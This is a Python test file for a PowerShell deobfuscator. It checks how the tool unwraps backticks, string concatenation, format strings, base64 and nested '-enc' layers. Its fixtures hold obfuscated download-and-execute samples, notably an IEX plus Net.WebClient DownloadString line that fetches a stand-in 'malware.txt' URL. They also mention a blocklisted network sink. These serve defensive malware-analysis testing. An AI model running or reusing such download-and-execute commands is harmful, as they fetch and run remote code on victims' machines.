"""End-to-end tests for the full Deobfuscator pipeline."""

import base64
import itertools

from repro import PipelineOptions, Deobfuscator, deobfuscate
from repro.obs import SpanRecorder


def enc(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


class TestEndToEnd:
    def test_clean_script_unchanged_semantically(self):
        result = deobfuscate("Write-Host hello")
        assert result.script == "Write-Host hello"
        assert not result.changed

    def test_l1_ticking_alias_case(self):
        result = deobfuscate("I`E`X ('wri'+'te-host hi')")
        assert result.script.strip() == "Write-Host hi"

    def test_l2_concat(self):
        result = deobfuscate("$x = 'mal'+'ware'")
        assert "'malware'" in result.script

    def test_l3_base64(self):
        payload = base64.b64encode("https://c2.test/x".encode()).decode()
        script = (
            "$u = [Text.Encoding]::UTF8.GetString("
            f"[Convert]::FromBase64String('{payload}'))"
        )
        result = deobfuscate(script)
        assert "'https://c2.test/x'" in result.script

    def test_invalid_input_returned(self):
        result = deobfuscate("'unterminated")
        assert not result.valid_input
        assert result.script == "'unterminated"

    def test_result_metadata(self):
        from repro.obs import PipelineStats

        result = deobfuscate("iex ('a'+'b')")
        assert result.iterations >= 1
        assert result.elapsed_seconds >= 0
        assert isinstance(result.stats, PipelineStats)
        assert result.stats.pieces_recovered >= 1
        assert result.stats.variables_traced == 0

    def test_phase_spans_recorded(self):
        result = deobfuscate("iex ('a'+'b')")
        assert set(result.stats.phase_seconds) >= {
            "token", "ast", "multilayer", "rename", "reformat",
        }, "spans should be on by default"
        assert all(s >= 0 for s in result.stats.phase_seconds.values())

    def test_collect_spans_off_keeps_counters(self):
        tool = Deobfuscator(options=PipelineOptions(collect_spans=False))
        result = tool.deobfuscate("iex ('a'+'b')")
        assert result.stats.phase_seconds == {}
        assert result.stats.pieces_recovered >= 1

    def test_recovery_outcomes_counted(self):
        result = deobfuscate(
            "$x = 'a'+'b'\n"
            "(New-Object Net.WebClient).DownloadString('http://x.test/')"
        )
        outcomes = result.stats.recovery_outcomes
        assert outcomes["recovered"] >= 1
        assert outcomes["blocked"] >= 1
        assert result.stats.evaluator_steps > 0

    def test_layers_recorded(self):
        result = deobfuscate("iex 'iex ''write-host x'''")
        assert len(result.layers) >= 1


class TestOneSpanModel:
    """Phase spans are recorded once, into the run's recorder, and
    ``phase_seconds`` is read from them."""

    SCRIPT = "iex 'iex ''write-host x'''"  # two layers
    STEP = 0.0012345678

    def test_each_phase_span_once_under_the_pipeline_span(self):
        recorder = SpanRecorder()
        with recorder.span("caller"):
            result = deobfuscate(self.SCRIPT, recorder=recorder)
        caller, pipeline = recorder.spans[:2]
        assert pipeline.name == "pipeline"
        assert pipeline.parent_span_id == caller.span_id
        phases = recorder.children(pipeline)
        assert result.iterations >= 3
        assert [(s.name, s.attributes.get("iteration")) for s in phases] == [
            (name, iteration)
            for iteration in range(result.iterations)
            for name in ("token", "ast", "multilayer")
        ] + [("rename", None), ("reformat", None), ("techniques", None)]
        # Nothing else was recorded, and nothing twice.
        assert recorder.spans == [caller, pipeline] + phases

    def test_phase_seconds_is_the_per_name_sum_of_those_spans(self):
        # Every clock read advances one step.
        clock = itertools.count(1_700_000_000.0, self.STEP).__next__
        recorder = SpanRecorder(clock=clock)
        result = deobfuscate(self.SCRIPT, recorder=recorder)
        sums = {}
        for span in recorder.children(recorder.spans[0]):
            sums[span.name] = sums.get(span.name, 0.0) + span.seconds
        assert result.stats.phase_seconds == {
            name: round(seconds, 6) for name, seconds in sums.items()
        }
        # One clock step per token span, rounded to 6 places.
        assert result.stats.phase_seconds["token"] == round(
            result.iterations * self.STEP, 6
        )

    def test_collect_spans_off_records_only_the_pipeline_span(self):
        recorder = SpanRecorder()
        tool = Deobfuscator(options=PipelineOptions(collect_spans=False))
        result = tool.deobfuscate(self.SCRIPT, recorder=recorder)
        assert [span.name for span in recorder.spans] == ["pipeline"]
        assert result.stats.phase_seconds == {}


class TestPaperCaseStudy:
    """Fig 7: the paper's running example, end to end."""

    CASE = (
        "I`E`X (\"{2}{0}{1}\" -f 'ost h', 'ello', 'write-h')\n"
        "$xdjmd = 'aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG'\n"
        "$lsffs = '8AbQAvAG0AYQBsAHcAYQByAGUALgB0AHgAdAA='\n"
        "$sdfs = [TeXT.eNcOdINg]::Unicode.GetString("
        "[Convert]::FromBase64String($xdjmd + $lsffs))\n"
        ".($psHoME[4]+$PSHOME[30]+'x') (NeW-oBJeCt Net.WebClient)"
        ".downloadstring($sdfs)"
    )

    def test_final_output_matches_fig7d(self):
        result = deobfuscate(self.CASE)
        lines = result.script.splitlines()
        assert lines[0] == "Write-Host hello"
        assert lines[1].startswith("$var0 = 'aAB0AHQAcABzADoALwAv")
        assert lines[2].startswith("$var1 = '8AbQAvAG0AYQBsAHcAYQBy")
        assert lines[3] == "$var2 = 'https://test.com/malware.txt'"
        assert lines[4].startswith(".('iex')")
        assert "'https://test.com/malware.txt'" in lines[4]

    def test_network_sink_not_executed(self):
        # downloadstring is on the blocklist: it must survive as code.
        result = deobfuscate(self.CASE)
        assert "DownloadString(" in result.script

    def test_url_recovered(self):
        result = deobfuscate(self.CASE)
        assert "https://test.com/malware.txt" in result.script


class TestAblationFlags:
    def test_no_token_phase(self):
        tool = Deobfuscator(options=PipelineOptions(token_phase=False, rename=False, reformat=False))
        result = tool.deobfuscate("I`E`X 'write-host x'")
        # The AST phase resolves the command via alias knowledge in the
        # multilayer unwrapper, but the tick removal is token-phase work.
        assert result.script == "write-host x"

    def test_no_ast_phase(self):
        tool = Deobfuscator(options=PipelineOptions(ast_phase=False, rename=False, reformat=False))
        result = tool.deobfuscate("$x = 'a'+'b'")
        assert "'a'+'b'" in result.script

    def test_no_variable_tracing(self):
        tool = Deobfuscator(options=PipelineOptions(trace_variables=False, rename=False,
                            reformat=False))
        result = tool.deobfuscate("$u = 'a'+'b'; use $u")
        assert "use $u" in result.script

    def test_no_multilayer(self):
        tool = Deobfuscator(options=PipelineOptions(multilayer=False, rename=False, reformat=False))
        result = tool.deobfuscate("iex 'write-host x'")
        assert "Invoke-Expression" in result.script

    def test_no_rename(self):
        tool = Deobfuscator(options=PipelineOptions(rename=False))
        result = tool.deobfuscate("$xqzjw = 'a'+'b'")
        assert "$xqzjw" in result.script

    def test_no_reformat(self):
        tool = Deobfuscator(options=PipelineOptions(reformat=False, rename=False))
        result = tool.deobfuscate("write-host     hi")
        assert "     " in result.script


class TestMultiLayerFixpoint:
    def test_deeply_nested_layers(self):
        script = "write-host core"
        for _ in range(4):
            script = f"powershell -enc {enc(script)}"
        result = deobfuscate(script)
        assert result.script.strip().lower() == "write-host core"

    def test_max_iterations_terminates(self):
        tool = Deobfuscator(options=PipelineOptions(max_iterations=2))
        script = "write-host x"
        for _ in range(6):
            script = f"powershell -enc {enc(script)}"
        result = tool.deobfuscate(script)
        assert result.iterations <= 2
